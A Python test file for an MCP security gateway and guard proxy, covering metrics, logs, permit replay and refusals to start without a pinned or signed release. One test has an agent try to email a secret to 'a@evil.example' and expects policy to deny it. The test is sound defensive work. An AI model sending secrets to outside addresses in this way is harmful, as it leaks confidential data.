"""The shipped entry points as real processes: ``cmcp-gateway`` (config file, token Secret
directory, metrics listener, JSON logs) and ``cmcp-guard`` (standalone verifying reverse proxy)."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from mcp.shared.exceptions import MCPError

from cmcp_core.permit import PERMIT_HEADER
from cmcp_devkit.enclave import EnclaveProcess
from cmcp_devkit.ports import free_port
from cmcp_devkit.release import DevRelease, write_dev_release
from tests.helpers.gateway_stack import AUDIENCE, MODERN_META, agent, get_permit
from tests.helpers.gateway_stack import PERMIT_ARGS as ALLOWED
from tests.helpers.gateway_stack import PERMIT_TOOL as TOOL
from tests.paths import ROOT

SECRET = "correct-horse-battery-staple-4711"


def spawn(args: list[str], log: Path) -> subprocess.Popen[bytes]:
    return subprocess.Popen([sys.executable, *args], cwd=ROOT, stdout=subprocess.PIPE, stderr=log.open("wb"))


def upstream_proc(
    port: int, log: Path, guard_enclave: EnclaveProcess | None = None, release: DevRelease | None = None
) -> subprocess.Popen[bytes]:
    extra = []
    if guard_enclave is not None:
        assert release is not None
        extra = ["--guard-audience", AUDIENCE, "--guard-enclave", guard_enclave.address, "--allow-simulated",
                 "--expected-bundle-hash", guard_enclave.bundle_hash, *release.argv()]
    proc = spawn(["-m", "cmcp_devkit.upstream", "--listen", f"127.0.0.1:{port}", *extra], log)
    assert proc.stdout is not None and proc.stdout.readline().startswith(b"READY")
    return proc


def wait_up(url: str) -> None:
    for _ in range(300):
        try:
            httpx.get(url, timeout=1)
            return
        except httpx.HTTPError:
            time.sleep(0.1)
    raise AssertionError(f"{url} never came up")


async def get(url: str) -> httpx.Response:
    async with httpx.AsyncClient(timeout=30) as http:
        return await http.get(url)


async def calls(port: int) -> int:
    return int((await get(f"http://127.0.0.1:{port}/calls")).json()["total"])


def stop(*procs: subprocess.Popen[bytes]) -> None:
    for proc in procs:
        proc.terminate()
        proc.wait(10)


async def test_gateway_process_metrics_and_logs(tmp_path: Path, enclave: EnclaveProcess) -> None:
    up_port, gw_port, metrics_port = free_port(), free_port(), free_port()
    release = write_dev_release(tmp_path)
    upstream = upstream_proc(up_port, tmp_path / "up.log", enclave, release)
    secrets_dir = tmp_path / "agents"
    secrets_dir.mkdir()
    (secrets_dir / "alice").write_text("tok-alice")
    (tmp_path / "gw.json").write_text(
        json.dumps(
            {
                "listen": f"127.0.0.1:{gw_port}",
                "metrics_listen": f"127.0.0.1:{metrics_port}",
                "state_dir": str(tmp_path / "state"),  # never the user's own audit store
                "allow_simulated": True,
                "release": release.config(),
                "auth": {"tokens_dir": str(secrets_dir)},
                "limits": {"decide_timeout_seconds": 15},
                "routes": [
                    {
                        "name": "demo",
                        "upstream": f"http://127.0.0.1:{up_port}/mcp",
                        "audience": AUDIENCE,
                        "enclaves": [enclave.address],
                        "expected_bundle_hashes": [enclave.bundle_hash],
                    }
                ],
            }
        )
    )
    log = tmp_path / "gw.log"
    gateway = spawn(["-m", "cmcp_gateway.main", "--config", str(tmp_path / "gw.json")], log)
    try:
        url = f"http://127.0.0.1:{gw_port}/mcp/demo"
        wait_up(url)
        async with agent(url) as client:
            await client.call_tool("email.send_external", {"to": ["bob@partner.example"], "body": SECRET})
            with pytest.raises(MCPError):
                await client.call_tool("email.send_external", {"to": ["a@evil.example"], "body": SECRET})
        assert await calls(up_port) == 1
        metrics = (await get(f"http://127.0.0.1:{metrics_port}/metrics")).text
        assert 'cmcp_gateway_requests_total{code="POLICY_DENY"} 1.0' in metrics
        assert 'cmcp_gateway_requests_total{code="ok"}' in metrics
        for name in (
            "cmcp_gateway_request_duration_seconds_bucket",
            "cmcp_gateway_decision_duration_seconds_count",
            "cmcp_gateway_upstream_duration_seconds_count",
        ):
            assert name in metrics
        # metrics are not served on the agent port
        assert (await get(f"http://127.0.0.1:{gw_port}/metrics")).status_code == 404
    finally:
        stop(gateway, upstream)
    lines = [json.loads(line) for line in log.read_text().splitlines() if line.startswith("{")]
    forwarded = [entry for entry in lines if entry["msg"] == "call forwarded"]
    denied = [entry for entry in lines if entry["msg"] == "call denied"]
    assert forwarded and denied
    assert all(
        e["call_id"] and e["session_id"] and e["args_digest"].startswith("sha256:")
        for e in forwarded + denied
    )
    assert SECRET not in log.read_text()  # arguments never in clear


async def test_guard_reverse_proxy_process(tmp_path: Path, enclave: EnclaveProcess) -> None:
    up_port, guard_port, metrics_port = free_port(), free_port(), free_port()
    upstream = upstream_proc(up_port, tmp_path / "up.log")  # an unguarded server ...
    guard = spawn(
        [
            "-m",
            "cmcp_guard.main",
            "--listen",
            f"127.0.0.1:{guard_port}",
            "--upstream",
            f"http://127.0.0.1:{up_port}",
            "--audience",
            AUDIENCE,
            "--enclave",
            enclave.address,
            "--expected-bundle-hash",
            enclave.bundle_hash,
            "--allow-simulated",
            *write_dev_release(tmp_path).argv(),
            "--metrics-listen",
            f"127.0.0.1:{metrics_port}",
        ],
        tmp_path / "guard.log",
    )
    try:
        url = f"http://127.0.0.1:{guard_port}/mcp"  # ... behind the standalone guard
        wait_up(url)
        headers = {
            "accept": "application/json, text/event-stream",
            "content-type": "application/json",
            "mcp-protocol-version": "2026-07-28",
            "mcp-method": "tools/call",
            "mcp-name": TOOL,
        }
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "id": 1,
                "method": "tools/call",
                "params": {"name": TOOL, "arguments": ALLOWED, "_meta": MODERN_META},
            }
        )
        async with httpx.AsyncClient(timeout=30) as http:
            bare = await http.post(url, content=body, headers=headers)
            assert bare.status_code == 403 and bare.json()["error"]["data"]["error_code"] == "PERMIT_MISSING"
            permit = await get_permit(enclave.address)
            ok = await http.post(url, content=body, headers={**headers, PERMIT_HEADER: permit})
            assert ok.status_code == 200 and ok.json()["result"]["structuredContent"]["status"] == "sent"
            again = await http.post(url, content=body, headers={**headers, PERMIT_HEADER: permit})
            assert again.json()["error"]["data"]["error_code"] == "PERMIT_REPLAYED"
        assert await calls(up_port) == 1
        metrics = (await get(f"http://127.0.0.1:{metrics_port}/metrics")).text
        assert 'cmcp_guard_rejections_total{code="PERMIT_MISSING"} 1.0' in metrics
        assert 'cmcp_guard_rejections_total{code="PERMIT_REPLAYED"} 1.0' in metrics
    finally:
        stop(guard, upstream)


def _gateway_refuses(config: dict[str, object], tmp_path: Path) -> str:
    path = tmp_path / "gw.json"
    path.write_text(json.dumps(config))
    done = subprocess.run([sys.executable, "-m", "cmcp_gateway.main", "--config", str(path)], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2, done.stderr
    return done.stderr


def test_gateway_refuses_to_start_unpinned_or_without_a_release(tmp_path: Path) -> None:
    """No "accept any attested enclave": a route must pin a bundle or follow an McpRoute, and a
    gateway without a signed release manifest judges no guest at all."""
    release = write_dev_release(tmp_path / "dev")
    route = {"name": "r", "upstream": "http://127.0.0.1:9/mcp", "audience": AUDIENCE,
             "enclaves": ["127.0.0.1:1"]}
    unpinned = _gateway_refuses({"release": release.config(), "routes": [route]}, tmp_path)
    assert "pins nothing" in unpinned
    pinned = {**route, "expected_bundle_hashes": ["sha256:" + "ab" * 32]}
    assert "REFERENCE_VALUES_MISSING" in _gateway_refuses({"routes": [pinned]}, tmp_path)
    other = write_dev_release(tmp_path / "other")
    forged = {"manifests": [str(other.manifest)], "keys": [str(release.key)]}
    assert "RELEASE_MANIFEST_INVALID" in _gateway_refuses({"release": forged, "routes": [pinned]}, tmp_path)
